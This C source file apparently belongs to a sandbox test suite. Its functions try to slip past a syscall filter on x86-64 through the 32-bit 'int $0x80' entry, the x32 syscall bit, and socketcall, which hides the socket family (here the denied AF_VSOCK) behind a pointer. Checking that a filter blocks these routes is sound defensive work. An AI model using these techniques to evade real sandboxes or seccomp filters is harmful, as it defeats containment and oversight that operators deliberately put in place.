/* A 64-bit program may enter the kernel by the 32-bit and the x32 table of system calls: other numbers, other code, and a
 * filter that only knows the 64-bit numbers does not see them. */
#define _GNU_SOURCE
#include "attacks.h"

#ifdef __x86_64__

#include <errno.h>
#include <sched.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { IA32_GETPID = 20, IA32_SOCKETCALL = 102, IA32_UNSHARE = 310, IA32_SOCKET_OPERATION = 1, X32_BIT = 0x40000000 };

static long ia32(long number, long first, long second)
{
    long result = number;
    __asm__ volatile("int $0x80" : "+a"(result) : "b"(first), "c"(second) : "memory", "r8", "r9", "r10", "r11");
    return (int)result;
}

int attack_ia32_entry(void)
{
    long result = ia32(IA32_GETPID, 0, 0);
    return result == getpid() ? 0 : (int)-result;
}

int attack_ia32_userns(void)
{
    return (int)-ia32(IA32_UNSHARE, CLONE_NEWUSER, 0);
}

/* socketcall takes the family behind a pointer, where no filter can read it. */
int attack_ia32_socketcall(void)
{
    uint32_t *arguments = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (arguments == MAP_FAILED) {
        return not_here("no memory below 4 GiB");
    }
    arguments[0] = 40 /* AF_VSOCK, which the default profiles deny */;
    arguments[1] = SOCK_STREAM | SOCK_CLOEXEC;
    arguments[2] = 0;
    long result = ia32(IA32_SOCKETCALL, IA32_SOCKET_OPERATION, (long)(uintptr_t)arguments);
    return result >= 0 ? 0 : (int)-result;
}

int attack_x32_entry(void)
{
    long result = syscall(SYS_getpid | X32_BIT);
    return result == getpid() ? 0 : errno;
}

#else

int attack_ia32_entry(void)
{
    return not_here("only x86-64 has a second table of system calls");
}

int attack_ia32_userns(void)
{
    return attack_ia32_entry();
}

int attack_ia32_socketcall(void)
{
    return attack_ia32_entry();
}

int attack_x32_entry(void)
{
    return attack_ia32_entry();
}

#endif
